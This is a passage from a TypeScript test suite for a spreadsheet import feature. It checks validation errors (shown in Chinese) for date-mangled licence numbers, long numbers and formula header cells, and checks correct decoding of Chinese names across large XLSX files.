      expect(table.rows[0].cells.slice(3)).toEqual(['1-5', '07:30', '08:10', '16:30', '17:30', '08:00', '17:00', '2026-10-01']);
      const g = await upload('guards', Buffer.from(await guards.xlsx.writeBuffer()));
      expect(errorsOf(g)).toEqual([
        [2, 'licenceNo', expect.stringContaining('Excel 把该单元格存成了日期（2021-12-01）')],
        [3, 'licenceNo', expect.stringContaining('数字超过 15 位有效数字')],
      ]);
    });

    it('refuses a header cell that is a formula without its result, naming the column', async () => {
      const file = await sheetXlsx([
        `<row r="1">${str('A1', 'licenceNo')}<c r="B1"><f>"name"</f></c>${str('C1', 'schoolCode')}</row>`,
        `<row r="2">${str('A2', 'H-0001')}</row>`,
      ]);
      const res = await upload('guards', file);
      expect([res.status, res.body.error.code, errorsOf(res)]).toEqual([
        400,
        'IMPORT.INVALID_HEADER',
        [[1, '#2', '公式没有计算结果，请在 Excel 中重新计算后保存']],
      ]);
    });

    it('reads Chinese text whose UTF-8 bytes straddle two inflated chunks of the sheet (exceljs made two U+FFFD of it)', async () => {
      const wb = new ExcelJS.Workbook();
      const ws = wb.addWorksheet('Sheet1');
      ws.addRow(GUARD_HEADERS);
      const surnames =
        '张王李赵刘陈杨黄周吴徐孙胡朱高林何郭马罗梁宋郑谢韩唐冯于董萧程曹袁邓许傅沈曾彭吕苏卢蒋蔡贾丁魏薛叶阎余潘杜戴夏钟汪田任姜范方石姚谭廖邹熊金陆郝孔白崔康毛邱秦江史顾侯邵孟龙万段雷钱汤尹黎易常武乔贺赖龚文';
      const name = (i: number) => surnames[i % 97] + surnames[(i * 7) % 97] + surnames[(i * 13) % 97] + i;
      for (let i = 0; i < 20_000; i++) ws.addRow([`N-${i}`, name(i), 'SA']);
      const table = await readTable(Buffer.from(await wb.xlsx.writeBuffer()));
      expect(table.rows.filter((r) => r.cells.some((c) => c.includes('\uFFFD')))).toEqual([]);
      expect(table.rows.map((r) => r.cells[1])).toEqual(Array.from({ length: 20_000 }, (_, i) => name(i)));
    });
  });
});
